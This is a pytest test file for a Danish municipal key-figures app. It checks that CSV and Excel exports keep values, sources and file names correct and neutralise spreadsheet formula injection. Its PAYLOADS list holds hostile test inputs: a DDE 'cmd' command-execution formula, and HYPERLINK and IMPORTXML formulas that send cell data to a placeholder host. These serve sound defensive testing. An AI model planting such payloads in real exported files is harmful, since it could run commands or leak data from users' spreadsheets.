"""Files open rightly in a spreadsheet, say where their figures are from, and never run anything."""

import csv
import dataclasses
import io
import re
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from keyfigures import compare, exports, views
from keyfigures.compare import AverageKind
from keyfigures.figures import Chart, ChartKind, Column, Context, Selection, Table, figure_id
from keyfigures.language import Language

PAYLOADS = (
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")',
)
LEADING = ("=", "+", "-", "@", "\t", "\r", "\n")
WINDOWS_NAMES = re.compile(r"(con|prn|aux|nul|com\d|lpt\d)([._-]|$)", re.IGNORECASE)


def selection(kind: ChartKind, language: Language, **changes: Any) -> Selection:
    """Return a choice in the group of 2011, where figures are few enough to check."""
    chosen = Selection(
        chart=kind,
        municipality="330",
        indicator="public_housing_share_pct",
        group="deck2011",
        year=2010,
        from_year=2009,
        average=AverageKind.WEIGHTED,
        include_own=True,
        language=language.value,
    )
    return dataclasses.replace(chosen, **changes)


def made(database: Path, kind: ChartKind, language: Language, **changes: Any) -> tuple[Chart, Context]:
    """Return a chart and its context."""
    chosen = selection(kind, language, **changes)
    return views.chart(database, chosen), views.context(chosen)


def read_csv(content: bytes, language: Language) -> list[list[str]]:
    """Return the rows of a CSV as a spreadsheet of that language reads it."""
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";" if language is Language.DA else ","))


def sheets(content: bytes, *, numbers: bool = False) -> tuple[Worksheet, Worksheet]:
    """Return the first and the last sheet of a workbook: the table shown, and what it is about.

    ``numbers`` gives what stands beside a formula instead of the formula.
    """
    book = openpyxl.load_workbook(io.BytesIO(content), data_only=numbers)
    return book.worksheets[0], book.worksheets[-1]


def with_words(chart: Chart, words: tuple[str, ...]) -> Chart:
    """Return the chart with a table whose names are not to be trusted."""
    columns = (Column("=A1"), Column("@name"), Column("value", 1))
    return dataclasses.replace(chart, table=Table(columns, tuple((word, word, -1.5) for word in words)))


@pytest.mark.parametrize("language", list(Language))
@pytest.mark.parametrize("kind", list(ChartKind))
def test_csv_has_the_table_and_its_source_in_every_row(database: Path, kind: ChartKind, language: Language) -> None:
    chart, context = made(database, kind, language)
    content = exports.csv_file(chart, context)
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.count(b"\xef\xbb\xbf") == 1
    assert content.endswith(b"\r\n")
    header, *rows = read_csv(content, language)
    about = ["Kilde", "Figur-id"] if language is Language.DA else ["Source", "Figure id"]
    assert header == [*(column.label for column in chart.table.columns), *about]
    assert len(rows) == len(chart.table.rows) > 0
    for row, figures in zip(rows, chart.table.rows, strict=True):
        assert row[-2:] == [chart.footer, context.figure_id]
        for shown, value in zip(row, figures, strict=False):
            assert_cell(shown, value, language)


def assert_cell(shown: str, value: object, language: Language) -> None:
    """A number comes back as the very same number, a missing one is empty, a word is the word."""
    if value is None:
        assert shown == ""
    elif isinstance(value, int | float):
        sign, other = (",", ".") if language is Language.DA else (".", ",")
        assert other not in shown
        assert float(shown.replace(sign, ".")) == value
    else:
        assert shown == value


def test_csv_in_danish_has_semicolons_and_decimal_commas(database: Path) -> None:
    chart, context = made(database, ChartKind.RANKING, Language.DA)
    first = exports.csv_file(chart, context).decode("utf-8-sig").splitlines()[1]
    assert first.startswith("1;Slagelse;330;24,6;5,7")
    chart, context = made(database, ChartKind.RANKING, Language.EN)
    first = exports.csv_file(chart, context).decode("utf-8-sig").splitlines()[1]
    assert first.startswith("1,Slagelse,330,24.6,5.7")


def test_csv_has_values_unrounded(database: Path) -> None:
    """Slagelse 2009: 24.6 minus the weighted average 18.9239… with all its digits."""
    chart, context = made(database, ChartKind.OVERVIEW, Language.EN)
    average = [row[4] for row in read_csv(exports.csv_file(chart, context), Language.EN)[1:]]
    assert any(len(value) > 10 for value in average)


def test_a_missing_figure_is_empty_and_never_zero(database: Path) -> None:
    """Of all municipalities only the six of 2011 have a figure for 2010."""
    chart, context = made(database, ChartKind.TILE_MAP, Language.DA)
    rows = read_csv(exports.csv_file(chart, context), Language.DA)[1:]
    assert sum(row[3] == "" for row in rows) == 98 - 6
    sheet, _ = sheets(exports.workbook(chart, context), numbers=True)
    values = [row[3].value for row in sheet.iter_rows(min_row=2)]
    assert values.count(None) == 98 - 6
    assert 0 not in values


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_no_text_in_a_csv_is_taken_for_a_formula(database: Path, payload: str) -> None:
    chart, context = made(database, ChartKind.RANKING, Language.DA)
    risky = dataclasses.replace(with_words(chart, (payload,)), footer=payload)
    _, row = read_csv(exports.csv_file(risky, context), Language.DA)
    assert row[:2] == [f"'{payload}"] * 2
    assert row[3] == f"'{payload}"
    assert row[2] == "-1,5"
    assert [cell for cell in (row[0], row[1], *row[3:]) if cell.startswith(LEADING)] == []


def test_no_name_of_a_column_is_taken_for_a_formula(database: Path) -> None:
    """A column is called after the municipality (overview) or the year: it comes from data like any other cell."""
    chart, context = made(database, ChartKind.RANKING, Language.DA)
    header = read_csv(exports.csv_file(with_words(chart, ("Slagelse",)), context), Language.DA)[0]
    assert [name for name in header if name.startswith(LEADING)] == []


def test_a_negative_number_stays_a_number(database: Path) -> None:
    """Kalundborg in 2010: 15.3, below the average."""
    chart, context = made(database, ChartKind.RANKING, Language.DA)
    row = next(row for row in read_csv(exports.csv_file(chart, context), Language.DA) if row[1] == "Kalundborg")
    assert row[4].startswith("-3,")
    sheet, _ = sheets(exports.workbook(chart, context), numbers=True)
    cell = next(cells[4] for cells in sheet.iter_rows() if cells[1].value == "Kalundborg")
    assert cell.data_type == "n"
    assert isinstance(cell.value, float)
    assert cell.value < -3


def test_no_text_in_a_workbook_is_a_formula_or_a_link(database: Path) -> None:
    chart, context = made(database, ChartKind.RANKING, Language.DA)
    words = (*PAYLOADS, "http://example.invalid", "mailto:a@example.invalid", "internal:'Tal'!A1", "12,5", "0330")
    risky = dataclasses.replace(with_words(chart, words), title="=1+1", footer="=2+2", notes=("=3+3", "@x"))
    for sheet in sheets(exports.workbook(risky, context)):
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert {cell.data_type for cell in cells if isinstance(cell.value, str)} == {"s"}
        assert [cell.coordinate for cell in cells if cell.hyperlink] == []
    sheet, about = sheets(exports.workbook(risky, context))
    # A spreadsheet's XML keeps a carriage return in its own way.
    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == [escaped(word) for word in words]
    assert [cell.value for cell in sheet[1]] == ["=A1", "@name", "value"]
    assert {row[1].value for row in about.iter_rows()} >= {"=1+1", "=2+2", "=3+3", "@x"}


def escaped(word: str) -> str:
    """Return a text the way openpyxl reads back what xlsxwriter had to escape."""
    return word.replace("\r", "_x000D_")


@pytest.mark.parametrize("language", list(Language))
@pytest.mark.parametrize("kind", list(ChartKind))
def test_workbook_has_the_table_with_numbers_as_numbers(database: Path, kind: ChartKind, language: Language) -> None:
    chart, context = made(database, kind, language)
    sheet, _ = sheets(exports.workbook(chart, context), numbers=True)
    assert sheet.title == ("Tal" if language is Language.DA else "Figures")
    assert sheet.freeze_panes == "A2"
    rows = list(sheet.iter_rows())
    assert [cell.value for cell in rows[0]] == [column.label for column in chart.table.columns]
    assert len(rows) == 1 + len(chart.table.rows)
    for cells, values in zip(rows[1:], chart.table.rows, strict=True):
        for cell, value, column in zip(cells, values, chart.table.columns, strict=True):
            assert cell.value == (pytest.approx(value, rel=1e-14) if isinstance(value, float) else value)
            if isinstance(value, int | float):
                assert cell.data_type == "n"
                assert cell.number_format == {0: "0", 1: "0.0", 2: "0.00"}[column.decimals or 0]
            assert (value is None) == (cell.value is None)


@pytest.mark.parametrize("language", list(Language))
def test_the_last_sheet_says_what_the_figures_are(database: Path, language: Language) -> None:
    chart, context = made(database, ChartKind.DEVELOPMENT, language)
    _, about = sheets(exports.workbook(chart, context))
    danish = language is Language.DA
    assert about.title == ("Om tallene" if danish else "About")
    rows = [(row[0].value, row[1].value) for row in about.iter_rows()]
    assert len(chart.notes) > 1
    assert rows == [
        ("Figur" if danish else "Chart", chart.title),
        ("Valg" if danish else "Selection", chart.subtitle),
        ("Kilde" if danish else "Source", chart.footer),
        ("Nøgletal" if danish else "Key figure", context.indicator.title.to(language)),
        ("Definition", context.indicator.definition.to(language)),
        *(("Forbehold" if danish else "Caveat", note) for note in chart.notes),
        ("Figur-id" if danish else "Figure id", context.figure_id),
    ]


def test_the_workbook_carries_title_and_source_in_its_properties(database: Path) -> None:
    chart, context = made(database, ChartKind.RANKING, Language.DA)
    properties = openpyxl.load_workbook(io.BytesIO(exports.workbook(chart, context))).properties
    assert (properties.title, properties.description) == (chart.title, chart.footer)


@pytest.mark.parametrize("language", list(Language))
def test_file_names_are_safe_everywhere_and_tell_what_they_hold(database: Path, language: Language) -> None:
    stems = set()
    like = views.context(selection(ChartKind.RANKING, language))
    for code, place in compare.municipalities(database).items():
        for kind in (ChartKind.TILE_MAP, ChartKind.MULTIPLES):
            chosen = selection(kind, language, municipality=code, year=2023)
            context = dataclasses.replace(like, selection=chosen, figure_id=figure_id(chosen, like.data_version))
            stem = exports.file_stem(context, place.name)
            parts = stem.split("_")
            assert (parts[0], parts[3], parts[4]) == (kind.value, "2023", context.figure_id)
            assert parts[1] == as_ascii(place.name)
            assert parts[2] == ("almene-boliger" if language is Language.DA else "public-housing")
            assert re.fullmatch(r"[A-Za-z0-9_-]+", stem)
            assert not WINDOWS_NAMES.match(stem)
            assert len(stem) < 120
            stems.add(stem)
    assert len(stems) == 2 * 98


def as_ascii(name: str) -> str:
    """Return a municipality's name as a file name has it."""
    name = name.lower().replace(" ", "-")
    for letter, instead in (("æ", "ae"), ("ø", "oe"), ("å", "aa")):
        name = name.replace(letter, instead)
    return name


@pytest.mark.parametrize(
    ("name", "part"),
    [
        ("Læsø", "laesoe"),
        ("Ærø", "aeroe"),
        ("Ålborg", "aalborg"),
        ("Høje-Taastrup", "hoeje-taastrup"),
        ("a/b:c*", "a-b-c-"),
    ],
)
def test_letters_and_signs_a_file_system_may_refuse_are_replaced(database: Path, name: str, part: str) -> None:
    assert database.exists()
    context = views.context(selection(ChartKind.RANKING, Language.DA))
    assert exports.file_stem(context, name).split("_")[1] == part
